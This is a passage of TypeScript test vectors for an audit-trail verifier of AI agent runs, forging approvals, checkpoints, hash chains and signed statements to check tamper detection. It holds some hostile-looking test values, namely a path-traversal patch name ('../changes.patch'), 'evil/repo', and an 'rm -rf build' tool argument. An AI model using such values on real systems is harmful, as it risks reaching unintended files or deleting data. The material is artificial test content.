    ['a work tree that nothing asks for', change(one, DONE, { workTree: 'b'.repeat(40) }), one],
    [
      'cancelled in place of a suspension',
      change(two, is('run.end', { outcome: 'awaiting-approval' }), { outcome: 'cancelled' }, END),
      two,
    ],
    ['a suspension left out', drop(two, is('run.suspended'), END), two],
  ],
  'no-checkpoint': ({ two, three }) => [
    ['a checkpoint left out', drop(two, is('checkpoint.saved'), is('run.suspended')), two],
    [
      'a checkpoint and the suspension left out',
      (() => {
        const events = two.events.filter((event) => !isSuspension(event));
        return { events, at: placeOf(events, RESUMED) };
      })(),
      two,
    ],
    ['a checkpoint of a crash left out', drop(three, is('checkpoint.saved'), RESUMED), three],
  ],
  'identity-changed': ({ one, two }) => [
    [
      'another requester at a resumption',
      change(two, RESUMED, { requester: { login: 'eve', id: 9 } }),
      two,
    ],
    [
      'another mode at a resumption',
      change(two, RESUMED, {
        policy: { source: '.github/countersign.yml', ref: 'main', sha256: POLICY, mode: 'auto' },
      }),
      two,
    ],
    ['another request at a resumption', change(two, RESUMED, { request: 'Delete it.' }), two],
    ['another repository at a resumption', change(two, RESUMED, { repository: 'evil/repo' }), two],
    ['another commit at a resumption', change(two, RESUMED, { headSha: 'c'.repeat(40) }), two],
    [
      'another policy at a resumption',
      change(two, RESUMED, {
        policy: { source: 'p', ref: null, sha256: sha256('x'), mode: 'ask' },
      }),
      two,
    ],
    [
      'other commands to prove at a resumption',
      change(two, RESUMED, { doneRequires: ['bash_run(true)'] }),
      two,
    ],
    [
      'another output schema at a resumption',
      change(two, RESUMED, { outputSchemaSha256: sha256('x') }),
      two,
    ],
    ['a patch for another commit', change(one, is('changes.saved'), { base: 'c'.repeat(40) }), one],
  ],
  'file-mismatch': ({ one, two }) => [
    [
      'another name of a checkpoint',
      change(two, is('checkpoint.saved'), { name: 'checkpoint-1.bin' }),
      two,
    ],
    [
      'another name of the patch',
      change(one, is('changes.saved'), { name: '../changes.patch' }),
      one,
    ],
  ],
  'file-changed': ({ one, two, three }) => [
    ['another digest of the patch', change(one, is('changes.saved'), { sha256: sha256('x') }), one],
    ['another size of the patch', change(one, is('changes.saved'), { bytes: 1 }), one],
    [
      'another digest of a checkpoint',
      change(two, is('checkpoint.saved'), { sha256: sha256('x') }),
      two,
    ],
    ['another size of a checkpoint', change(two, is('checkpoint.saved'), { bytes: 1 }), two],
    [
      'another digest of a torn line',
      change(three, is('recovered'), { tornSha256: sha256('x') }),
      three,
    ],
  ],
  'unknown-approval': ({ two }) => [
    [
      'a suspension for another approval',
      change(two, is('run.suspended'), { approvals: ['ap-00000000'] }),
      two,
    ],
    ['a suspension for no approval', change(two, is('run.suspended'), { approvals: [] }), two],
  ],
  'ran-on-after-suspension': ({ two }) => [
    [
      'work after a suspension',
      insertBefore(two, is('run.end', { outcome: 'awaiting-approval' }), {
        type: 'turn.start',
        turn: 2,
        parent: null,
        messages: 1,
      }),
      two,
    ],
  ],
  'ran-on-after-crash': ({ three }) => {
    const resumed = (entry: Fields, isIt: Match): Forged => {
      const events = three.events.flatMap((event): Fields[] => {
        if (state('c1', 'SEALED')({ ...event })) return [];
        if (event.type === 'run.end' && event.outcome === 'error') return [];
        return RESUMED({ ...event }) ? [event, entry] : [event];
      });
      return {
        events: events.map((event) =>
          is('checkpoint.saved')({ ...event }) ? { ...event, name: 'checkpoint-8.bin' } : event,
        ),
        at: placeOf(events, isIt),
      };
    };
    const base = {
      ...three,
      files: new Map([...three.files, ['checkpoint-8.bin', Buffer.from('a crashed state')]]),
    };
    const completed = {
      type: 'call.state',
      call: 'c1',
      state: 'COMPLETED',
      result: 'ok',
      resultSha256: sha256('ok'),
      resultBytes: 2,
      durationMs: 1,
    };
    const question = { type: 'call.request', call: 'c1', request: 1, name: 'x', data: '1' };
    return [
      [
        'a call that a crash interrupted and that ends in the next job',
        resumed(completed, state('c1', 'COMPLETED')),
        base,
      ],
      [
        'a call that a crash interrupted and that asks in the next job',
        resumed(question, is('call.request')),
        base,
      ],
    ];
  },
  'no-start': ({ one }) => [['no start', { events: one.events.slice(1), at: 1 }, one]],
  'second-start': ({ two }) => [
    [
      'a second run in the same trail',
      (() => {
        const { events } = change(two, RESUMED, { start: 'fresh' }, END);
        return { events, at: placeOf(events, is('run.start'), 1) };
      })(),
      two,
    ],
  ],
  'after-end': ({ one, two }) => [
    [
      'an entry after the end',
      {
        events: [...one.events, { type: 'turn.start', turn: 3, parent: null, messages: 1 }],
        at: one.events.length,
      },
      one,
    ],
    ['a resumption left out', drop(two, RESUMED, is('approval.decision')), two],
    [
      'a resumption of a run that was done',
      (() => {
        const saved = two.events.find(({ type }) => type === 'checkpoint.saved');
        const start = two.events.find((event) => RESUMED({ ...event }));
        const index = two.events.length;
        const file = { ...saved, name: `checkpoint-${index}.bin` };
        return { events: [...two.events, put(file, {}), put(start ?? {}, {})], at: index + 1 };
      })(),
      withCheckpoint(two),
    ],
  ],
  'count-mismatch': ({ one }) => [
    ['another number of entries', change(one, DONE, { count: 3 }), one],
  ],
};

/** A reached limit of turns. */
function spent(used: number, limit: number): Fields {
  return { type: 'budget', budget: 'turns', event: 'spent', used, limit };
}

/** The run with other fields of one entry, for a forgery that needs two. */
function edited(run: Run, match: Match, fields: JsonObject): Run {
  return { ...run, events: change(run, match, fields).events as readonly TrailEvent[] };
}

const READING = { name: 'reading', write: [], show: [], network: false };

/** The run whose command has the reading profile, and says this of the sandbox that it had. */
function sandboxedAs(run: Run, report: JsonObject, fields: JsonObject = {}): Forged {
  const events = run.events.map((event) => {
    if (is('call.verdict', { call: 'c1' })({ ...event })) return put(event, { profile: READING });
    if (!state('c1', 'COMPLETED')({ ...event })) return event;
    const sandbox = {
      profile: 'reading',
      discarded: [],
      kept: [],
      hidden: 0,
      git: 'none',
      limits: [],
      ...report,
    };
    return put(event, { sandbox, ...fields });
  });
  return { events, at: placeOf(events, state('c1', 'COMPLETED')) };
}

/** The run with one more checkpoint, after its last entry. */
function withCheckpoint(run: Run): Run {
  const [bytes = Buffer.alloc(0)] = run.files.values();
  return { ...run, files: new Map([...run.files, [`checkpoint-${run.events.length}.bin`, bytes]]) };
}

function withBlob(run: Run, text: string): Run {
  return { ...run, files: new Map([...run.files, [`blobs/${sha256(text)}`, Buffer.from(text)]]) };
}

/** The first request of a run, for what it needs. */
function needsOf(run: Run): JsonObject {
  return requestOf(run)['needs'] as JsonObject;
}

/** The run with other needs of its verdicts on `c1`. */
function withVerdictNeeds(run: Run, needs: JsonObject): Run {
  const events = run.events.map((event) =>
    event.type === 'call.verdict' && event.call === 'c1' && event.needs !== undefined
      ? put(event, { needs: { ...event.needs, ...needs } })
      : event,
  );
  return { ...run, events: events as readonly TrailEvent[] };
}

/** True trails that are easily taken for forgeries. */
function alsoValid(run: Run): readonly (readonly [string, readonly Fields[]])[] {
  const answer = placeOf(run.events, is('approval.decision'));
  const [decision] = run.events.slice(answer, answer + 1);
  const other = { by: { login: 'lisa', id: 3 }, comment: commentOf(8) };
  const two = { ...needsOf(run), count: 2 };
  const asked = edited(withVerdictNeeds(run, { count: 2 }), is('approval.asked'), {
    count: 2,
    requests: [{ ...requestOf(run), needs: two }],
  });
  return [
    [
      'valid, two people gave the same text',
      run.events.toSpliced(answer + 1, 0, put(decision ?? {}, other) as TrailEvent),
    ],
    [
      'valid, a call that two people have to approve was changed to one that needs nobody',
      afterChange(asked, (event) =>
        is('call.verdict', { call: 'c1' })({ ...event }) ? [put(event, AUTO)] : [event],
      ),
    ],
    [
      'valid, a changed call with another argument in which each job replaced a secret',
      edited(
        edited(run, state('c1', 'PENDING'), {
          'gen_ai.tool.call.arguments': {
            command: 'rm -rf build',
            cwd: redactedFolder('0123abcd'),
          },
        }),
        is('call.changed'),
        { arguments: { command: argumentBlob(run), cwd: redactedFolder('4567efgh') } },
      ).events,
    ],
  ];
}

function redactedFolder(tag: string): string {
  return `src/[redacted:policy:${tag}]`;
}

function commentOf(id: number): JsonObject {
  return { id, url: 'https://a.test', createdAt: '2026-01-02T03:05:00Z' };
}

const NEEDS = { from: [['write']], count: 1, self: false };

function requestOf(run: Run): JsonObject {
  const asked = run.events.find((event) => event.type === 'approval.asked');
  return JSON.parse(JSON.stringify(asked?.requests[0]));
}

function decisionOf(run: Run): JsonObject {
  return JSON.parse(JSON.stringify(run.events[placeOf(run.events, is('approval.decision'))]));
}

function argumentBlob(run: Run): { readonly blob: string; readonly bytes: number } {
  const path = [...run.files.keys()][0] ?? '';
  return { blob: path.slice('blobs/'.length), bytes: run.files.get(path)?.length ?? 0 };
}

/** Changes of a chained trail by somebody who makes no hashes anew. */
const CHAINED: Readonly<
  Record<string, (lines: readonly string[]) => readonly [string, readonly string[], number][]>
> = {
  'hash-mismatch': (lines) => [
    ['a changed value', lines.with(4, (lines[4] ?? '').replace('src/a.ts', 'src/b.ts')), 4],
    ['a changed hash', lines.with(5, withHash(lines[5] ?? '')), 5],
  ],
  'seq-gap': (lines) => [
    ['a dropped entry', lines.toSpliced(5, 1), 5],
    ['the first entry dropped', lines.slice(1), 0],
    ['two entries that changed places', lines.with(5, lines[6] ?? '').with(6, lines[5] ?? ''), 5],
  ],
  'duplicate-seq': (lines) => [['an entry twice', lines.toSpliced(5, 0, lines[5] ?? ''), 6]],
  'prev-mismatch': (lines) => [
    [
      'an entry made anew alone',
      lines.with(5, rehashed(lines[5] ?? '', { because: 'another reason' })),
      6,
    ],
  ],
  'other-run': (lines) => [
    ['an entry of another run', lines.with(5, rehashed(lines[5] ?? '', { run: 'run-other' })), 5],
  ],
  'not-canonical': (lines) => [
    ['a space', lines.with(5, (lines[5] ?? '').replace('":"', '": "')), 5],
  ],
  'blank-line': (lines) => [['a blank line', lines.toSpliced(5, 0, ''), 5]],
  'not-json': (lines) => [['half a line', lines.with(5, (lines[5] ?? '').slice(0, 40)), 5]],
  'carriage-return': (lines) => [['a carriage return', lines.with(5, `${lines[5] ?? ''}\r`), 5]],
  'bad-schema': (lines) => [
    [
      'another version of the format',
      lines.with(5, (lines[5] ?? '').replace('audit/1', 'audit/2')),
      5,
    ],
  ],
};

const RUN = 'run-0123456789abcdef';

function withHash(line: string): string {
  return line.replace(/"hash":"[0-9a-f]{64}"/, `"hash":"${sha256('x')}"`);
}

/** The same entry with another value and its hash made anew, which the next entry does not know. */
function rehashed(line: string, fields: JsonObject): string {
  const { hash: _, ...entry } = JSON.parse(line);
  const changed: JsonObject = { ...entry, ...fields };
  return canonicalJson({ ...changed, hash: sha256(canonicalJson(changed)) });
}

/** Changes of the files beside an unchanged trail. `-1`: found after the last entry. */
const FILES: readonly (readonly [
  string,
  string,
  'one' | 'two' | 'three' | 'four',
  (files: Map<string, Buffer>) => void,
  Match | null,
])[] = [
  [
    'a changed blob in arguments',
    'blob-changed',
    'one',
    (files) => replace(files, /^blobs/, 0),
    state('c1', 'PENDING'),
  ],
  [
    'a changed blob of a changed call',
    'blob-changed',
    'four',
    (files) => replace(files, /^blobs/, 0),
    is('call.changed'),
  ],
  [
    'a missing blob in arguments',
    'blob-missing',
    'one',
    (files) => remove(files, /^blobs/, 0),
    state('c1', 'PENDING'),
  ],
  [
    'a changed blob of a result',
    'blob-changed',
    'one',
    (files) => replace(files, /^blobs/, 1),
    state('c2', 'COMPLETED'),
  ],
  [
    'a missing blob of a result',
    'blob-missing',
    'one',
    (files) => remove(files, /^blobs/, 1),
    state('c2', 'COMPLETED'),
  ],
  [
    'a changed result of the run',
    'blob-changed',
    'one',
    (files) => replace(files, /^blobs/, 2),
    DONE,
  ],
  [
    'a changed blob that no entry names',
    'blob-changed',
    'one',
    (files) => replace(files, /^blobs/, 3),
    null,
  ],
  [
    'a changed patch',
    'file-changed',
    'one',
    (files) => replace(files, /patch/, 0),
    is('changes.saved'),
  ],
  [
    'a missing patch',
    'file-missing',
    'one',
    (files) => remove(files, /patch/, 0),
    is('changes.saved'),
  ],
  [
    'a changed checkpoint',
    'file-changed',
    'two',
    (files) => replace(files, /checkpoint/, 0),
    is('checkpoint.saved'),
  ],
  [
    'a missing checkpoint',
    'file-missing',
    'two',
    (files) => remove(files, /checkpoint/, 0),
    is('checkpoint.saved'),
  ],
  [
    'a changed torn line',
    'file-changed',
    'three',
    (files) => replace(files, /torn/, 0),
    is('recovered'),
  ],
  [
    'a missing torn line',
    'file-missing',
    'three',
    (files) => remove(files, /torn/, 0),
    is('recovered'),
  ],
];

function named(files: Map<string, Buffer>, name: RegExp, nth: number): string {
  return [...files.keys()].filter((path) => name.test(path))[nth] ?? '';
}

function replace(files: Map<string, Buffer>, name: RegExp, nth: number): void {
  const path = named(files, name, nth);
  files.set(path, Buffer.from((files.get(path) ?? Buffer.alloc(0)).toString().replace(/.$/s, '!')));
}

function remove(files: Map<string, Buffer>, name: RegExp, nth: number): void {
  files.delete(named(files, name, nth));
}

/** Every vector: the valid trails, and the forgeries of them. They are made once, because the tests of several files read them. */
export const vectors = memoize(makeVectors);

function makeVectors(): readonly Vector[] {
  const runs = {
    one: oneJob(),
    two: suspended(),
    three: crashed(),
    four: changedByApprover(),
    five: resumedOtherwise(),
  };
  const valid = Object.entries(VALID).map(([key, name]) =>
    vector(
      name,
      sealedLines(runs[key as keyof typeof runs]),
      runs[key as keyof typeof runs].files,
      null,
    ),
  );
  const anew = Object.entries(REHASHED).flatMap(([code, make]) =>
    make(runs).map(([name, { events, at: index }, { files }]) =>
      vector(name, sealedLines({ events }), files, { seq: index, code }),
    ),
  );
  const easilyTaken = alsoValid(runs.four).map(([name, events]) =>
    vector(name, sealedLines({ events }), runs.four.files, null),
  );
  const lines = sealedLines(runs.one);
  const chained = Object.entries(CHAINED).flatMap(([code, make]) =>
    make(lines).map(([name, changed, seq]) =>
      vector(`hashes kept, ${name}`, changed, runs.one.files, { seq, code }),
    ),
  );
  const beside = FILES.map(([name, code, key, edit, match]) => {
    const { events, files } = runs[key];
    const changed = new Map(files);
    edit(changed);
    const seq = match === null ? events.length : placeOf(events, match);
    return vector(name, sealedLines(runs[key]), changed, { seq, code });
  });
  return [
    ...valid,
    vector(
      'valid, tokens that are rounded when they are added',
      sealedLines({ events: rounded() }),
      new Map(),
      null,
    ),
    vector(
      'valid, entries of all other types',
      sealedLines({ events: allKinds() }),
      new Map(),
      null,
    ),
    vector(
      'valid, a resumption with a request in which each job replaced another secret',
      sealedLines(redactedRequest(runs.two)),
      runs.two.files,
      null,
    ),
    ...easilyTaken,
    ...anew,
    ...chained,
    ...beside,
    ...withStatements(runs),
    ...withQuestions(),
    ...withPartialArguments(runs.one),
    ...withNestedCalls(),
    ...withEarlyEnd(),
    ...moreForgeries().map(([name, code, events]) =>
      vector(name, sealedLines({ events }), new Map(), { seq: events.length - 1, code }),
    ),
    ...RAW.map(([name, code, trail]) => ({
      name,
      expect: { kind: 'broken' as const, seq: trail.split('\n').length > 2 ? 1 : 0, code },
      trail,
      files: {},
    })),
  ];
}

const [FIRST = ''] = sealedLines({ events: [runStart()] });

/** Lines that are no entries. */
const RAW: readonly (readonly [string, string, string])[] = [
  ['an array in place of an entry', 'not-an-entry', '[]\n'],
  ['an entry without a hash', 'bad-envelope', `${FIRST.replace(/"hash":"[0-9a-f]{64}",/, '')}\n`],
  ['a byte order mark', 'not-json', `\ufeff${FIRST}\n`],
  ['another trail behind the first', 'duplicate-seq', `${FIRST}\n${FIRST}\n`],
  ['a last line that is cut', 'truncated-line', FIRST.slice(0, -1)],
];

const list = (value: Json): Json => [value];
const object = (value: Json): Json => ({ a: value });

/** A value in so many lists or objects. */
function inside(levels: number, wrap: (value: Json) => Json, value: Json): Json {
  return levels === 0 ? value : inside(levels - 1, wrap, wrap(value));
}

/** Arguments that do not have their digest, since a part of them was replaced before they were recorded, and where none was. */
function withPartialArguments(run: Run): readonly Vector[] {
  const { text, depth } = TOO_DEEP;
  const secret = '[redacted:env-x:abcdefgh]';
  const recorded = (call: string, input: JsonObject): Forged =>
    change(run, state(call, 'PENDING'), { 'gen_ai.tool.call.arguments': input });
  const deep = (levels: number, wrap: (value: Json) => Json): Forged =>
    recorded('c2', { a: inside(levels - 1, wrap, text) });
  const ended = (result: JsonObject): Forged =>
    recorded('c4', { outcome: 'done', summary: 'It is done.', result });
  const valid: readonly (readonly [string, Forged])[] = [
    ['nested too deeply in lists', deep(depth + 1, list)],
    ['nested too deeply in objects', deep(depth + 1, object)],
    ['with a redacted name', recorded('c2', { [secret]: 1 })],
    ['with a redacted text', recorded('c2', { path: secret })],
    ['of an end with a redacted name', ended({ [secret]: 42 })],
    ['of an end with a redacted text', ended({ answer: [secret] })],
  ];
  const forged: readonly (readonly [string, string, Forged])[] = [
    ['nested no deeper than lists may be', 'arguments-mismatch', deep(depth, list)],
    ['nested no deeper than objects may be', 'arguments-mismatch', deep(depth, object)],
    ['of an end with another result', 'arguments-mismatch', ended({ answer: 43 })],
  ];
  return [
    ...valid.map(([name, { events }]) =>
      vector(`valid, arguments ${name}`, sealedLines({ events }), run.files, null),
    ),
    ...forged.map(([name, code, { events, at: index }]) =>
      vector(`arguments ${name}`, sealedLines({ events }), run.files, { seq: index, code }),
    ),
  ];
}

/** Commands that a tool and a subagent run: only a tool can have declared its own before it was allowed. */
function withNestedCalls(): readonly Vector[] {
  const run: Run = { events: nested(), files: new Map() };
  const builtin = { rule: null, list: 'wall', line: null };
  const jumping = nested('COMPLETED', 4);
  const forged: readonly (readonly [string, string, Forged])[] = [
    [
      'a command of a subagent that a built-in rule lets run',
      'verdict-mismatch',
      change(run, is('call.verdict', { call: 'c4' }), builtin),
    ],
    [
      'a command of the run itself that a built-in rule lets run',
      'verdict-mismatch',
      change(run, state('c2', 'PENDING'), { parent: null }, is('call.verdict', { call: 'c2' })),
    ],
    [
      'a number of a turn that jumps after a subagent that completed',
      'turn-mismatch',
      { events: jumping, at: placeOf(jumping, is('turn.start', { turn: 4 })) },
    ],
  ];
  return [
    vector('valid, commands of a tool and of a subagent', sealedLines(run), run.files, null),
    vector(
      'valid, a number of a turn that a failed subagent did not use',
      sealedLines({ events: nested('FAILED', 4) }),
      run.files,
      null,
    ),
    ...forged.map(([name, code, { events, at: index }]) =>
      vector(name, sealedLines({ events }), run.files, { seq: index, code }),
    ),
  ];
}

/** The first job replaced one secret of the request, and the second job another one. */
function redactedRequest(run: Run): Forged {
  const first = edited(run, is('run.start', { start: 'fresh' }), {
    request: 'Use [redacted:one:0123abcd] and two.',
  });
  return change(first, RESUMED, { request: 'Use one and [redacted:two:4567efgh].' });
}

/** A resumption that loaded no policy says less of the run, but not of another one. */
function withEarlyEnd(): readonly Vector[] {
  const run = endedEarly();
  const policy = { source: 'none was loaded', ref: null, sha256: sha256('x'), mode: 'none' };
  const byMode = verdict('c1', 'auto', { list: 'mode', rule: null });
  const evaluated = insertBefore(run, is('approval.void'), byMode);
  const forged: readonly (readonly [string, Forged])[] = [
    [
      'another repository at a resumption without a policy',
      change(run, RESUMED, { repository: 'evil/repo' }),
    ],
    ['another policy at a resumption that loaded none', change(run, RESUMED, { policy })],
  ];
  return [
    vector(
      'valid, suspended and ended before it loaded its policy',
      sealedLines(run),
      run.files,
      null,
    ),
    ...forged.map(([name, { events, at: index }]) =>
      vector(name, sealedLines({ events }), run.files, { seq: index, code: 'identity-changed' }),
    ),
    vector('a verdict by a workflow run that loaded no policy', sealedLines(evaluated), run.files, {
      seq: evaluated.at,
      code: 'policy-mismatch',
    }),
  ];
}

/** A run whose tools ask, and what a forger could do to their questions and answers. */
function withQuestions(): readonly Vector[] {
  const run: Run = { events: questioned(), files: new Map() };
  const asks = (call: string, request: number) => is('call.request', { call, request });
  const answers = (call: string, request: number) => is('call.answer', { call, request });
  const question = { type: 'call.request', call: 'c1', request: 4, name: 'x', data: '1' } as const;
  const end = state('c1', 'COMPLETED');
  const forged: readonly (readonly [string, string, Forged])[] = [
    ['an answer left out', 'request-mismatch', drop(run, answers('c1', 3), end)],
    ['a question left out', 'request-mismatch', drop(run, asks('c1', 3), answers('c1', 3))],
    [
      'a question and its answer left out before others',
      'request-mismatch',
      drop(
        { ...run, events: drop(run, asks('c1', 1), END).events as readonly TrailEvent[] },
        answers('c1', 1),
        asks('c1', 2),
      ),
    ],
    [
      'an answer that was given twice',
      'request-mismatch',
      insertBefore(run, end, { ...question, type: 'call.answer', by: 'program', answer: '1' }),
    ],
    [
      'an answer by a hook without a name',
      'request-mismatch',
      change(run, answers('c1', 2), { hook: DROPPED }),
    ],
    [
      'an answer of the program with the name of a hook',
      'request-mismatch',
      change(run, answers('c1', 1), { hook: 'x' }),
    ],
    [
      'an answer that is a refusal, too',
      'request-mismatch',
      change(run, answers('c1', 2), { because: 'no' }),
    ],
    [
      'an answer without a word',
      'request-mismatch',
      change(run, answers('c1', 2), { answer: DROPPED }),
    ],
    [
      'an answer by nobody',
      'request-mismatch',
      change(run, answers('c2', 1), { answer: '1', because: DROPPED }),
    ],
    ['an answer by an outsider', 'bad-event', change(run, answers('c1', 1), { by: 'model' })],
    [
      'a question before its call ran',
      'unknown-call',
      insertBefore(run, state('c1', 'EXECUTING'), { ...question, request: 1 }),
    ],
    [
      'a question after its call',
      'unknown-call',
      insertBefore(run, state('c2', 'PENDING'), question),
    ],
    [
      'an answer after its call',
      'unknown-call',
      insertBefore(run, is('turn.start', { turn: 2 }), {
        type: 'call.answer',
        call: 'c3',
        request: 1,
        by: 'program',
        answer: '1',
      }),
    ],
    [
      'an interrupted question whose call completed',
      'request-mismatch',
      change(
        run,
        state('c3', 'SEALED'),
        {
          state: 'COMPLETED',
          because: DROPPED,
          durationMs: 1,
          result: '',
          resultBytes: 0,
          resultSha256: sha256(''),
        },
        state('c3', 'COMPLETED'),
      ),
    ],
  ];
  return [
    vector('valid, tools that ask', sealedLines(run), run.files, null),
    ...forged.map(([name, code, { events, at: index }]) =>
      vector(name, sealedLines({ events }), run.files, { seq: index, code }),
    ),
  ];
}

/** Trails with a statement beside them: what the entries say, and not. */
function withStatements(runs: Readonly<Record<keyof typeof VALID, Run>>): readonly Vector[] {
  const valid = Object.entries(VALID).map(([key, name]) => {
    const run = runs[key as keyof typeof VALID];
    const lines = sealedLines(run);
    const files = new Map(run.files).set(STATEMENT_FILE, statementOf(key));
    return vector(`${name}, with its statement`, lines, files, null);
  });
  const forged = STATEMENTS.map(([name, key, edit]) => {
    const { events, files } = runs[key];
    const text = edit(statementOf(key).toString());
    return vector(
      `a statement ${name}`,
      sealedLines(runs[key]),
      new Map(files).set(STATEMENT_FILE, Buffer.from(text)),
      { seq: events.length, code: 'statement-mismatch' },
    );
  });
  return [...valid, ...forged];
}

/** The bytes of each valid trail's statement, kept as files: code that derives others breaks what was signed. */
function statementOf(key: string): Buffer {
  return readFileSync(join(import.meta.dirname, 'statements', `${key}.intoto.json`));
}

/** What a forger could do to a statement, as text. */
const STATEMENTS: readonly (readonly [string, keyof typeof VALID, (text: string) => string])[] = [
  [
    'with another approver',
    'one',
    (text) => text.replace('"approvedBy":[{"id":', '"approvedBy":[{"id":9'),
  ],
  [
    'without what was refused',
    'one',
    (text) => text.replace(/"refused":\[[^\]]*\],[^\]]*\]/, '"refused":[]'),
  ],
  ['with another outcome', 'two', (text) => text.replace('"outcome":"done"', '"outcome":"denied"')],
  [
    'without the models of a resumption',
    'five',
    (text) => text.replace('"models":["other"]', '"models":["script","spare"]'),
  ],
  [
    'with a commit that was not pushed',
    'five',
    (text) => text.replace('"commit":"bbbb', '"commit":"cccc'),
  ],
  ['about another file', 'one', (text) => text.replace(/[0-9a-f]{64}/, 'f'.repeat(64))],
  ['with a member more', 'one', (text) => text.replace('{"_type"', '{"A":1,"_type"')],
  ['that is not canonical', 'one', (text) => text.replace('{"_type"', '{ "_type"')],
  ['without its line feed', 'three', (text) => text.trimEnd()],
  ['of another run', 'two', () => statementOf('one').toString()],
  ['that is empty', 'one', () => ''],
];

const VALID = {
  one: 'valid, one job',
  two: 'valid, suspended and resumed',
  three: 'valid, crashed and resumed',
  four: 'valid, a changed call',
  five: 'valid, resumed with other models',
} as const;

function sealedLines({ events }: { readonly events: readonly Fields[] }): readonly string[] {
  return chainEvents(events, RUN);
}

function vector(
  name: string,
  lines: readonly string[],
  files: ReadonlyMap<string, Buffer>,
  broken: { readonly seq: number; readonly code: string } | null,
): Vector {
  return {
    name,
    expect: broken === null ? { kind: 'intact' } : { kind: 'broken', ...broken },
    trail: lines.map((line) => `${line}\n`).join(''),
    files: Object.fromEntries([...files].map(([path, bytes]) => [path, bytes.toString('base64')])),
  };
}
